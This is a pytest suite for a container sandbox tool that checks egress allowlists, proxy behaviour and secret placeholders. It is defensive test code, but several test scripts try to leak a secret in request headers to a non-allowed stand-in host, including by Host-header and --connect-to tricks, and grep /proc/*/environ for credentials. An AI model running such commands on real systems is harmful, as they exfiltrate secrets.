"""What a container can reach: what its policy names, and nothing else, however it is tried."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from tests.support import fake_engines
from tests.support.bottle import Bottle, Ended, wait_until
from tests.support.engines import Docker, Podman
from tests.support.escapes import ESCAPES, client_context
from tests.support.images import BOTTLE_DOCKERFILE, busybox_context
from tests.support.killing import (
    hold_download_ends_with_proxy,
    hold_network_ends_with_proxy,
    kill_proxy_at_any_moment,
)
from tests.support.world import API, WILD, World, hold_value_reached_its_host_alone

WS = "dGhlIHNhbXBsZSBub25jZQ=="

WORKS = f"""
set -e
curl -sS http://api.example.org/plain
curl -sS https://api.example.org/secure
git -c http.sslCAInfo=/ca.pem clone -q https://api.example.org/repo.git /tmp/repo && cat /tmp/repo/file
curl -sS https://api.example.org/size/200000000 | wc -c
head -c 200000000 /dev/zero | curl -sS -T - https://api.example.org/sink; echo
answers() {{ until grep -aq "$1" /tmp/said; do sleep 0.1; done; }}
{{ printf 'GET http://api.example.org/ws HTTP/1.1\\r\\nHost: api.example.org\\r\\nUpgrade: websocket\\r\\n'
  printf 'Connection: Upgrade\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: {WS}\\r\\n\\r\\n'
  answers '101 '; printf '\\201\\205\\0\\0\\0\\0hello'; answers 'echo hello'; }} |
  nc 127.0.0.1 3128 > /tmp/said
grep -ao 'echo hello' /tmp/said
"""


@pytest.fixture(scope="module")
def client(docker: Docker, outside: World, tmp_path_factory: pytest.TempPathFactory) -> str:
    """An image with the programs that are used to get out."""
    return docker.build(client_context(tmp_path_factory.mktemp("client"), outside.folder / "cert.pem"))


@pytest.fixture
def there(bottle: Bottle, outside: World, docker: Docker) -> Iterator[Bottle]:
    """Run `bottle` in that world. Whatever a test does, no container and no process stays."""
    outside.forget()
    listing = ("ps", "--all", "--quiet", "--filter=label=bot-bottle.bottle")
    before = docker.docker(*listing)
    made = replace(bottle, prefix=outside.prefix)
    yield made
    assert not made.leftovers
    assert docker.docker(*listing) == before


def run(there: Bottle, client: str, script: str, *options: str) -> Ended:
    argv = (
        "run",
        "-q",
        "--backend=docker",
        "--name=walls",
        "--user=0",
        "-w/tmp",
        *options,
        "--image",
        client,
    )
    return there(*argv, "--", "sh", "-c", script, timeout=240)


def test_every_protocol_works_with_an_allowed_host(there: Bottle, client: str, outside: World) -> None:
    done = run(there, client, WORKS, "--allow", "api.example.org")
    assert done.code == 0, done
    assert done.out.splitlines() == [
        f"reached {API}:80",
        f"reached {API}:443",
        "from far away",
        "200000000",
        "200000000",
        "echo hello",
    ]
    assert {each["address"] for each in outside.seen()} == {API}


def test_a_wildcard_allows_all_names_below_and_not_the_name_itself(
    there: Bottle, client: str, outside: World
) -> None:
    script = "for h in a.wild b.a.wild wild; do curl -sS http://$h.example.net/ || true; done"
    done = run(there, client, script, "--allow", "*.wild.example.net:80")
    assert done.out.splitlines()[:2] == [f"reached {WILD}:80"] * 2
    assert "wild.example.net:80: it is not allowed" in done.out
    assert {each["address"] for each in outside.seen()} == {WILD}


def test_programs_get_the_variables_that_name_the_proxy(there: Bottle, client: str) -> None:
    script = "env | grep -i proxy | sort"
    proxy, local = "http://127.0.0.1:3128", "localhost,127.0.0.1,::1"
    wanted = {**dict.fromkeys(("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy"), proxy)}
    wanted |= {"NO_PROXY": local, "no_proxy": local, "NODE_USE_ENV_PROXY": "1"}
    done = run(there, client, script, "--allow=api.example.org")
    assert dict(line.split("=", 1) for line in done.out.splitlines()) == wanted
    assert run(there, client, script).out == ""
    own = run(there, client, script, "--allow=api.example.org", "--env=NODE_USE_ENV_PROXY=0")
    assert "NODE_USE_ENV_PROXY=0\n" in own.out


@pytest.mark.slow
def test_each_allowed_address_of_a_name_is_tried(there: Bottle, client: str, outside: World) -> None:
    script = (
        "for each in http://moved https://moved http://both https://both; do"
        " curl -sS --cacert /ca.pem $each.example.org/ || exit; done"
    )
    done = run(there, client, script, "--allow=moved.example.org", "--allow=both.example.org")
    assert done.code == 0, done
    assert done.out.splitlines() == [f"reached {API}:{port}" for port in (80, 443, 80, 443)]
    assert {each["address"] for each in outside.seen()} == {API}  # not the LAN's, which is not allowed


@pytest.mark.parametrize(
    ("allowed", "reachable"),
    [
        ((), set()),
        (("api.example.org", "rebound.example.org", "clouded.example.org", "looped.example.org"), {API}),
        pytest.param(
            ("*.wild.example.net:443", "*.example.org.evil.example:1"), {WILD}, marks=pytest.mark.slow
        ),
    ],
    ids=["nothing", "one-host", "wildcard"],
)
def test_no_escape_reaches_a_host_that_is_not_allowed(
    there: Bottle, client: str, outside: World, allowed: tuple[str, ...], reachable: set[str]
) -> None:
    options = [word for each in allowed for word in ("--allow", each)]
    tried = [
        f"( {attempt}\n) </dev/null >/tmp/{number} 2>&1 &" for number, (_, attempt) in enumerate(ESCAPES)
    ]
    script = "\n".join(
        [*tried, "wait", 'for each in /tmp/[0-9]*; do head -c 2000 "$each"; echo "== tried"; done']
    )
    done = run(there, client, script, *options)
    assert done.out.count("== tried") == len(ESCAPES), done
    assert {each["address"] for each in outside.seen()} <= reachable, outside.seen()
    got_through = [line for line in done.out.splitlines() if line.startswith("reached ")]
    assert {line.split()[1].rpartition(":")[0] for line in got_through} <= reachable, done.out
    strangers = [each for each in outside.seen() if "other" in str(each.get("host"))]
    assert not strangers


def test_refused_requests_are_logged_with_their_reason(there: Bottle, client: str) -> None:
    script = "curl -sS http://other.example.org/; curl -sS https://rebound.example.org/ 2>/dev/null; true"
    run(there, client, script, "--allow", "rebound.example.org")
    entries = [json.loads(line) for line in there("logs", "--egress", "--json", "walls").out.splitlines()]
    assert [(each["host"], each["port"]) for each in entries] == [
        ("other.example.org", 80),
        ("rebound.example.org", 443),
    ]
    assert "a private address" in entries[1]["reason"]
    assert "other.example.org:80  it is not allowed" in there("logs", "--egress", "walls").out


@pytest.mark.slow
def test_a_receipt_has_the_proof_of_the_isolation(there: Bottle, client: str) -> None:
    assert run(there, client, "true", "--allow", "api.example.org").code == 0
    proof = json.loads(there("show", "--json", "walls").out)["proof"]
    assert len(proof) == 17 + 8
    assert all(each["ok"] for each in proof.values())
    assert proof["allowed-host"]["outcome"] == "open"
    assert proof["host-loopback"]["outcome"] == "refused"


def test_a_running_bottle_is_proved_and_allowed_another_host(
    there: Bottle, client: str, outside: World
) -> None:
    script = "until curl -sSf http://other.example.org/; do sleep 0.2; done"
    argv = (
        "run",
        "-q",
        "-d",
        "--backend=docker",
        "--name=walls",
        "--allow=api.example.org",
        "--image",
        client,
    )
    assert there(*argv, "--", "sh", "-c", script).code == 0
    proved = json.loads(there("prove", "--json", "walls").out)
    assert all(each["ok"] for each in proved.values())
    assert not outside.seen() or {each["address"] for each in outside.seen()} == {API}
    assert there("allow", "walls", "other.example.org").out.split() == [
        "api.example.org",
        "other.example.org",
    ]
    assert "reached" in there("logs", "-f", "walls").out
    there("allow", "walls", "x.example.org").failed(101, "not running")
    there("rm", "walls")


REMOVED = """
until curl -sSf http://other.example.org/; do sleep 0.2; done; echo could
while curl -sSf http://other.example.org/ >/dev/null; do sleep 0.2; done
curl -sS http://api.example.org/plain; curl -sS -p http://other.example.org/
"""


@pytest.mark.slow
def test_a_rule_is_removed_from_a_running_bottle(there: Bottle, client: str) -> None:
    options = ("--allow=api.example.org", "--allow=other.example.org")
    argv = ("run", "-q", "-d", "--backend=docker", "--name=walls", "-w/tmp", *options, "--image", client)
    assert there(*argv, "--", "sh", "-c", REMOVED).code == 0
    wait_until(lambda: "could" in there("logs", "walls").out)
    there("allow", "--remove", "walls", "*.example.org").failed(101, "has no rule *.example.org")
    there("allow", "--remove", "walls").failed(2, "needs a HOST")
    assert there("allow", "walls").out.split() == ["api.example.org", "other.example.org"]
    assert there("allow", "--remove", "walls", "Other.example.org.").out.split() == ["api.example.org"]
    said = there("logs", "-f", "walls")
    assert said.out.endswith(f"reached {API}:80\ncurl: (56) CONNECT tunnel failed, response 403\n"), said
    assert "no longer allowed" in there("logs", "--egress", "walls").out
    there("rm", "walls")


def test_the_last_rule_is_removed_and_the_bottle_is_still_isolated(there: Bottle, client: str) -> None:
    argv = ("run", "-q", "-d", "--backend=docker", "--name=walls", "--allow=api.example.org:80")
    assert there(*argv, "--image", client, "--", "sleep", "60").code == 0
    assert not there("allow", "--remove", "walls", "api.example.org:80").out
    proved = json.loads(there("check", "--json", "walls").out)
    assert all(each["ok"] for each in proved.values())
    reading = there("allow", "walls", "api.example.org GET /x")
    reading.failed(101, "cannot be allowed api.example.org GET /x", "stop it, and run it again with")
    assert there("allow", "walls", "api.example.org").out == "api.example.org\n"
    there("stop", "walls")
    there("rm", "walls")


@pytest.mark.parametrize("lies", [False, True], ids=["inspect tells", "inspect lies"])
def test_an_engine_that_drops_the_isolation_is_refused(
    there: Bottle, client: str, tmp_path: Path, lies: bool
) -> None:
    program = shutil.which("docker")
    assert program
    fake_engines.dropping_network(tmp_path, Path(program), lies=lies)
    path = f"{tmp_path}:{os.environ['PATH']}"
    done = run(replace(there, changes={**there.changes, "PATH": path}), client, "echo started")
    done.failed(119, "not in force")
    assert "started" not in done.out


WITHHELD = """
echo "holds $KEY"
curl -sS -m 20 -H "Authorization: Bearer $KEY" https://api.example.org/headers
curl -sS -m 20 -u "me:$KEY" https://api.example.org/headers
curl -sS -m 20 -H "X-Key: $KEY" https://other.example.org/headers
curl -sS -m 20 -H "X-Key: $KEY" http://api.example.org/headers
curl -sS -m 20 -H "Host: other.example.org" -H "X-Key: $KEY" https://api.example.org/headers
curl -sS -m 20 -k --connect-to other.example.org:443:api.example.org:443 -H "X-Key: $KEY" https://other.example.org/headers
git clone -q https://api.example.org/repo.git /tmp/repo && cat /tmp/repo/file
grep -s a-canary-value /proc/[0-9]*/environ /.bottle/ca.pem | head -c 100
"""


def test_a_secret_for_a_host_reaches_that_host_alone_and_not_the_bottle(
    there: Bottle, client: str, outside: World, tmp_path: Path
) -> None:
    value = "a-canary-value-of-the-walls"
    (tmp_path / "key").write_text(f"{value}\n")
    options = ("--allow=api.example.org", "--allow=other.example.org")
    secret = f"--secret=id=KEY,src={tmp_path}/key,host=api.example.org"
    trusting = replace(there, changes={**there.changes, "SSL_CERT_FILE": str(outside.folder / "cert.pem")})
    done = run(trusting, client, WITHHELD, *options, secret)
    assert done.out.startswith("holds BOTTLE_PLACEHOLDER_"), done
    assert "from far away" in done.out, done
    assert "a-canary" not in done.out + done.err
    hold_value_reached_its_host_alone(outside, done.out.split()[1], value)
    told = there("show", "--json", "walls").out
    assert value not in told
    assert '"hosts": [' in told


def test_a_secret_whose_file_changes_is_renewed_while_the_bottle_runs(
    there: Bottle, client: str, outside: World, tmp_path: Path
) -> None:
    key = tmp_path / "key"
    key.write_text("a-canary-value-before\n")
    ask = 'curl -sSf -m 20 -H "X-Key: $KEY" https://api.example.org/headers'
    trusting = replace(there, changes={**there.changes, "SSL_CERT_FILE": str(outside.folder / "cert.pem")})
    process = trusting.start(
        "run", "-q", "-i", "--backend=docker", "--name=walls", "--allow=api.example.org",
        f"--secret=id=KEY,src={key},host=api.example.org", "--image", client,
        "--", "sh", "-c", f"{ask}; echo asked; read -r _; {ask}", stdin=subprocess.PIPE,
    )  # fmt: skip
    assert process.stdout is not None
    assert process.stdout.readline().startswith("reached"), process.communicate()
    key.write_text("a-canary-value-after\n")
    _, err = process.communicate("go on\n", timeout=60)
    assert process.returncode == 0, err
    keys = [each["headers"]["X-Key"] for each in outside.seen() if "headers" in each]
    assert keys == ["a-canary-value-before", "a-canary-value-after"]
    assert "a-canary" not in err + there("show", "--json", "walls").out


def test_a_login_that_ends_is_refreshed_outside_and_the_bottle_has_none_of_it(
    there: Bottle, client: str, outside: World, tmp_path: Path
) -> None:
    answer = {"access_token": "a-canary-token", "refresh_token": "a-canary-refresh", "expires_in": 3600}
    served = outside.folder / "files" / "oauth"
    served.mkdir()
    (served / "token").write_text(json.dumps(answer))
    profile = tmp_path / "home" / ".config" / "bot-bottle" / "agents" / "claude.toml"
    profile.parent.mkdir(parents=True)
    profile.write_text(
        'extends = "claude"\n[login.refresh]\nurl = "https://other.example.org/oauth/token"\n'
        '[credentials.CLAUDE_CODE_OAUTH_TOKEN]\nhosts = ["api.example.org"]\n'
    )
    own = tmp_path / "home" / ".claude" / ".credentials.json"
    own.parent.mkdir()
    login = {"accessToken": "a-canary-old", "refreshToken": "a-canary-first", "expiresAt": 1}
    own.write_text(json.dumps({"claudeAiOauth": login}))
    changes = {"HOME": str(tmp_path / "home"), "SSL_CERT_FILE": str(outside.folder / "cert.pem")}
    changes["BOT_BOTTLE_STATE_DIR"] = str(tmp_path / "state")
    user = replace(there, changes={**there.changes, **changes})
    assert user("login", "claude").code == 0
    script = """
        echo "holds $CLAUDE_CODE_OAUTH_TOKEN"
        curl -sS -m 20 -H "Authorization: Bearer $CLAUDE_CODE_OAUTH_TOKEN" https://api.example.org/headers
        curl -sS -m 20 -H "X-Key: $CLAUDE_CODE_OAUTH_TOKEN" https://other.example.org/headers
        grep -s a-can[a]ry /proc/[0-9]*/environ /.bottle/ca.pem | head -c 100
    """
    options = ("--allow=api.example.org", "--allow=other.example.org")
    done = run(user, client, script, *options, "--secret=id=CLAUDE_CODE_OAUTH_TOKEN,login=claude")
    placeholder = done.out.split()[1]
    assert placeholder.startswith("BOTTLE_PLACEHOLDER_"), done
    assert "a-canary" not in done.out + done.err
    seen = [each["headers"] for each in outside.seen() if "headers" in each]
    assert [each.get("Authorization") for each in seen] == ["Bearer a-canary-token", None]
    assert seen[1]["X-Key"] == placeholder
    assert json.loads(own.read_text())["claudeAiOauth"]["refreshToken"] == "a-canary-refresh"
    assert (
        "a-canary" not in user("show", "--json", "walls").out + user("logs", "--egress", "--all", "walls").out
    )
    state = [path for path in (tmp_path / "state").rglob("*") if path.is_file()]
    assert not [path for path in state if b"a-canary" in path.read_bytes()]


def test_a_secret_for_a_host_that_is_not_allowed_is_refused(there: Bottle, client: str) -> None:
    options = ("--secret=id=KEY,env=HOME,host=other.example.org", "--allow=api.example.org")
    run(there, client, "true", *options).failed(101, "--allow other.example.org")


@pytest.mark.parametrize(
    "seconds", [0.0, 1.2, *(pytest.param(each, marks=pytest.mark.slow) for each in (0.6, 1.8, 3.0))]
)
def test_a_killed_bottle_leaves_no_proxy_and_no_network(
    there: Bottle, client: str, tmp_path: Path, seconds: float
) -> None:
    state = {"BOT_BOTTLE_STATE_DIR": str(tmp_path / "state")}
    there = replace(there, changes={**there.changes, **state})
    (tmp_path / "key").write_text("a-canary-value\n")
    secret = f"--secret=id=KEY,src={tmp_path}/key,host=api.example.org"
    argv = (
        "run",
        "-q",
        "--backend=docker",
        "--name=dead",
        "--allow=api.example.org",
        secret,
        "--image",
        client,
    )
    with there.start(*argv, "--", "sleep", "100") as process:
        wait_until(lambda: process.poll() is not None or list((tmp_path / "state").glob("receipts/*.policy")))
        time.sleep(seconds)
        process.kill()
        process.wait()  # the engine's client may still have its streams, until the bottle is swept
    there("prune")
    wait_until(lambda: not there.leftovers, 10)  # one that had only begun ends by itself
    assert not list((tmp_path / "state").glob("receipts/*.policy"))


def test_without_its_proxy_nothing_is_reached(there: Bottle, client: str) -> None:
    hold_network_ends_with_proxy(there, "--backend=docker", "--name=walls", "--image", client)


@pytest.mark.slow
def test_a_download_ends_with_its_proxy(there: Bottle, client: str) -> None:
    hold_download_ends_with_proxy(there, "--backend=docker", "--name=walls", "--image", client)


@pytest.mark.parametrize("times", [1, pytest.param(20, marks=pytest.mark.slow)])
def test_a_proxy_can_end_at_any_moment(there: Bottle, client: str, times: int) -> None:
    kill_proxy_at_any_moment(there, times, "--backend=docker", "--image", client)


def test_an_open_network_is_reported_at_every_start(there: Bottle, client: str) -> None:
    argv = ("run", "--backend=docker", "--network=open", "--image", client)
    assert "the network is unrestricted" in there(*argv, "--", "true").err


def test_podman_isolates_as_docker_does(podman_bottle: Bottle, podman: Podman, tmp_path: Path) -> None:
    context = busybox_context(tmp_path / "context", BOTTLE_DOCKERFILE)
    argv = ("run", "-q", "--engine=podman", "--backend=docker", "--allow=api.example.org", "--publish=3000")
    script = "ls /sys/class/net; wget -O- http://other.example.org/"
    done = podman_bottle(*argv, "--name=walls", str(context), "--", "sh", "-c", script)
    assert done.out == "lo\n"
    assert "403 Forbidden" in done.err
    assert "other.example.org:80  it is not allowed" in podman_bottle("logs", "--egress", "walls").out
    assert not podman_bottle.leftovers
    listing = ("ps", "--all", "--quiet", "--filter=label=bot-bottle.bottle=walls")
    assert podman.podman(*listing) == b""
